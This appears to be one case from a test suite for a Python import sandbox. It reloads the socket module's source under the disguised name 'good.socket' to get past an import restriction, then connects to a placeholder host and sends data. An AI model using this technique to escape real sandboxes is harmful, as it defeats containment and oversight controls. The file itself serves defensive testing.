"""A restricted module is loaded from its source by another name."""
CATEGORY = "forging"
REACH = "net"

import importlib.util
import sys

from . import payload


def attack():
    import encodings
    path = encodings.__file__.replace("encodings/__init__", "socket")
    spec = importlib.util.spec_from_file_location("good.socket", path)
    module = importlib.util.module_from_spec(spec)
    sys.modules["good.socket"] = module
    spec.loader.exec_module(module)
    client = module.create_connection((payload.HOST, payload.PORT))
    client.sendall(b"evil")
